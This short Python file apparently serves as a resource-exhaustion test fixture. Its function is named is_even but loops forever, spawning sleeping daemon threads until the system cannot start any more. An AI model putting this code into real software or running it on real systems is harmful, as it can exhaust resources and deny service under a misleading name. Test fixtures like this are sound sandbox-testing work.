"""Starts threads until it cannot."""

import threading
import time


def is_even(n):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
